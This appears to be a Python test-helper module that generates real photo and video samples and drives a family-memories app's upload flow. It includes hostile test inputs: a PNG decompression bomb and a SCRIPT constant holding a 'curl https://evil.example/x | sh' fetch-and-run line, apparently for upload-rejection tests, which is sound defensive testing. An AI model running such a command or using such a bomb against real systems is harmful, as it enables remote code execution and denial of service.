"""Real photos and videos generated on the fly, and the upload flow a browser goes through.

Every sample is produced by the real encoders (Pillow, pillow-heif, PyAV), so what the
tests upload is what phones and browsers send: EXIF orientation and GPS, alpha, animation,
HEIC, H.264 in MP4/MOV, VP8/VP9 in WebM.
"""

import asyncio
import functools
import io
import secrets
import struct
import tempfile
import time
import zlib
from pathlib import Path
from typing import Any

import av
import httpx
import pillow_heif
from PIL import ExifTags, Image, ImageDraw

from tests.helpers import API
from tests.helpers.factories import Member

RED, BLUE, GREEN = (220, 30, 30), (30, 30, 220), (30, 200, 30)


# Photos ------------------------------------------------------------------------------------


def picture(size: tuple[int, int], left: tuple[int, int, int] = RED) -> Image.Image:
    """Left half one colour, right half blue, so orientation mistakes are visible.

    The bottom-right pixel is random, so no two samples are the same bytes: a family refuses
    the same file twice (409 duplicate_media), as it would two copies of one photo.
    """
    image = Image.new("RGB", size, BLUE)
    image.paste(left, (0, 0, size[0] // 2, size[1]))
    ImageDraw.Draw(image).ellipse((0, 0, size[0] // 4, size[1] // 4), fill=GREEN)
    image.putpixel((size[0] - 1, size[1] - 1), tuple(secrets.token_bytes(3)))
    return image


def jpeg(size: tuple[int, int] = (600, 400), *, orientation: int = 6, gps: bool = True) -> bytes:
    """A JPEG stored sideways (EXIF orientation 6 by default) with a GPS position."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "TestPhone"
    if gps:
        exif[ExifTags.IFD.GPSInfo] = {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.0),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (13.0, 24.0, 36.0),
        }
    out = io.BytesIO()
    picture(size).save(out, "JPEG", quality=90, exif=exif.tobytes())
    return out.getvalue()


def png_with_alpha(size: tuple[int, int] = (320, 200)) -> bytes:
    image = picture(size).convert("RGBA")
    image.putalpha(Image.linear_gradient("L").resize(size))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def animated_gif(size: tuple[int, int] = (120, 80), frames: int = 4) -> bytes:
    colours = [RED, GREEN, BLUE, (200, 200, 30)]
    images = [Image.new("RGB", size, colours[i % len(colours)]) for i in range(frames)]
    images[0].putpixel((0, 0), tuple(secrets.token_bytes(3)))  # unique bytes (see picture)
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=100, loop=0)
    return out.getvalue()


def webp(size: tuple[int, int] = (300, 200)) -> bytes:
    out = io.BytesIO()
    picture(size).save(out, "WEBP", quality=80)
    return out.getvalue()


def heic(size: tuple[int, int] = (640, 480)) -> bytes:
    heif = pillow_heif.from_pillow(picture(size))
    out = io.BytesIO()
    heif.save(out, quality=70)
    return out.getvalue()


@functools.cache
def heic_grid(columns: int, rows: int, tile: int = 64) -> bytes:
    """A HEIC whose primary picture is a grid of `columns` × `rows` HEVC tiles of `tile` px.

    Written by libheif, as iPhones write theirs (with 512 px tiles): a `grid` item whose
    tiles are `hvc1` items. x265 opens an encoder for every tile (~2 ms each without its
    thread pools), so the bytes are made once per test session.
    """
    image = Image.new("RGB", (columns * tile, rows * tile), RED)
    out = io.BytesIO()
    single_threaded = {"preset": "ultrafast", "x265:pools": "none", "x265:frame-threads": "1"}
    image.save(out, "HEIF", quality=10, tile_size=tile, enc_params=single_threaded)
    return out.getvalue()


def with_broken_exif(jpeg_with_exif: bytes) -> bytes:
    """The JPEG with its EXIF block mangled (as editors and messengers sometimes leave it):
    the TIFF header is kept, the first IFD's offset and entries are garbage."""
    start = jpeg_with_exif.index(b"Exif\x00\x00") + 6
    garbage = b"MM\x00\x2a\xff\xff\xff\xf0" + bytes(64)
    return jpeg_with_exif[:start] + garbage + jpeg_with_exif[start + len(garbage) :]


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A tiny PNG whose header claims a huge canvas (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 4096)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def blank_png(width: int, height: int, *, seed: int = 0) -> bytes:
    """A complete, valid dark RGB PNG: a few hundred KB on disk, width x height x 3 decoded.

    Made row by row (never the whole picture in memory); `seed` makes the bytes differ.
    """

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    compressor = zlib.compressobj(6)
    row = b"\x00" * (1 + width * 3)  # filter byte + pixels
    first = b"\x00" + bytes([seed % 256, seed // 256 % 256, 0]) + row[4:]
    idat = compressor.compress(first)
    idat += b"".join(compressor.compress(row) for _ in range(height - 1)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n" + b"# padding\n" * 20


# Videos ------------------------------------------------------------------------------------


def video(
    container: str, codec: str, *, size: tuple[int, int] = (320, 240), frames: int = 30
) -> bytes:
    """`frames` frames at 30 fps (30 frames = 1 second), colours changing over time."""
    with tempfile.TemporaryDirectory() as work:
        path = Path(work) / f"sample.{container}"
        with av.open(str(path), mode="w", format=container) as output:
            stream = output.add_stream(codec, rate=30)
            assert isinstance(stream, av.VideoStream)
            stream.width, stream.height = size
            stream.pix_fmt = "yuv420p"
            for index in range(frames):
                colour = (index * 8 % 256, 120, 255 - index * 8 % 256)
                frame = av.VideoFrame.from_image(picture(size, colour))
                frame.pts = index
                for packet in stream.encode(frame):
                    output.mux(packet)
            for packet in stream.encode():
                output.mux(packet)
        return path.read_bytes()


def mp4(**kwargs: Any) -> bytes:
    return video("mp4", "libx264", **kwargs)


def webm(**kwargs: Any) -> bytes:
    return video("webm", "libvpx-vp9", **kwargs)


def mov(**kwargs: Any) -> bytes:
    return video("mov", "libx264", **kwargs)


# The upload flow, exactly as a browser does it -------------------------------------------------


async def create_memory(client: httpx.AsyncClient, member: Member, **body: Any) -> dict[str, Any]:
    body.setdefault("title", "A day to remember")
    response = await client.post(f"{API}/memories", json=body, headers=member.headers)
    assert response.status_code == 201, response.text
    memory: dict[str, Any] = response.json()
    return memory


async def upload_url(
    client: httpx.AsyncClient,
    member: Member,
    memory_id: str,
    mime_type: str,
    *,
    file_name: str = "file",
    file_size: int | None = None,
) -> httpx.Response:
    body: dict[str, Any] = {"memory_id": memory_id, "file_name": file_name, "mime_type": mime_type}
    if file_size is not None:
        body["file_size"] = file_size
    return await client.post(f"{API}/storage/upload-url", json=body, headers=member.headers)


async def send_bytes(
    client: httpx.AsyncClient, ticket: dict[str, Any], data: bytes
) -> httpx.Response:
    """What `fetch(upload_url, {method, headers, body: file})` does: no bearer token."""
    return await client.request(
        ticket["method"], ticket["upload_url"], content=data, headers=ticket["headers"]
    )


async def register(
    client: httpx.AsyncClient,
    member: Member,
    memory_id: str,
    ticket: dict[str, Any],
    *,
    mime_type: str,
    file_name: str = "file",
    file_size: int = 1,
) -> httpx.Response:
    return await client.post(
        f"{API}/memories/{memory_id}/media",
        json={
            "storage_path": ticket["storage_path"],
            "file_name": file_name,
            "mime_type": mime_type,
            "file_size": file_size,
        },
        headers=member.headers,
    )


async def upload(
    client: httpx.AsyncClient,
    member: Member,
    memory_id: str,
    data: bytes,
    mime_type: str,
    file_name: str = "file",
) -> dict[str, Any]:
    """upload-url → send the bytes → register; returns the registered Media."""
    ticket = await upload_url(
        client, member, memory_id, mime_type, file_name=file_name, file_size=len(data)
    )
    assert ticket.status_code == 200, ticket.text
    sent = await send_bytes(client, ticket.json(), data)
    assert sent.status_code == 201, sent.text
    registered = await register(
        client,
        member,
        memory_id,
        ticket.json(),
        mime_type=mime_type,
        file_name=file_name,
        file_size=len(data),
    )
    assert registered.status_code == 201, registered.text
    media: dict[str, Any] = registered.json()
    return media


async def wait_for_media(
    client: httpx.AsyncClient,
    member: Member,
    memory_id: str,
    media_id: str,
    *,
    seconds: float = 30.0,
) -> dict[str, Any]:
    """Poll the memory until the media's processing has finished (completed or failed)."""
    deadline = time.monotonic() + seconds
    while True:
        response = await client.get(f"{API}/memories/{memory_id}", headers=member.headers)
        assert response.status_code == 200, response.text
        media = next(m for m in response.json()["media"] if m["id"] == media_id)
        if media["processing_status"] in ("completed", "failed"):
            return dict(media)
        assert time.monotonic() < deadline, f"still {media['processing_status']}"
        await asyncio.sleep(0.05)
